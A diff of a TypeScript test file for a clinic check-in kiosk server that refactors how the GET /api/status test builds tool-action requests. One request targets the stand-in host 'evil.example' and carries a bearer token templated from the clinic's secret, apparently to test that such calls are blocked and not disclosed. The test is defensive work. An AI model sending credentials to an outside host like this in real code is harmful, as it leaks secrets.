@@ -4,7 +4,6 @@
 
 import { createServer } from 'node:http';
 import { describe, expect, it } from 'vitest';
-import { stringify } from 'yaml';
 import { closeServer, json, listen, useServerHarness } from '../support/server-harness.ts';
 
 const TOKEN = 'tok-status-5e8d1c0b9a7f2436';
@@ -145,12 +144,6 @@ describe('POST /api/analytics', () => {
   });
 });
 
-/** A flow whose check_in posts to `url` with the clinic's token. */
-function flowCalling(url: string): string {
-  const http = { method: 'POST', url, headers: { authorization: 'Bearer {secret:CLINIC_TOKEN}' } };
-  return stringify({ id: 'clinic_checkin', states: { summary: { ui: { artifact_type: 'card', title: 'Summary' }, tools: { check_in: { description: 'Check in.', http } } } } });
-}
-
 describe('GET /api/status', () => {
   it('says which services are configured and how many origins are allowed, never the keys, secrets or addresses', async () => {
     const target = await harness.startUpstream((_req, res) => json(res, 201, { queue_number: 1 }));
@@ -164,7 +157,7 @@ describe('GET /api/status', () => {
       fetch(`${kiosk}/api/actions`, {
         method: 'POST',
         headers: { 'content-type': 'application/json' },
-        body: JSON.stringify({ action_id: id, flow_id: 'clinic_checkin', ...harness.keepFlow(flowCalling(url)), state: 'summary', tool: 'check_in', values: {} }),
+        body: JSON.stringify(harness.toolAsk(id, { method: 'POST', url, headers: { authorization: 'Bearer {secret:CLINIC_TOKEN}' } })),
       }).then((r) => r.text());
     seen.push(await send(`${origin}/check-ins`, 'v1:a1'), await send('http://evil.example/x', 'v1:a2'));
 
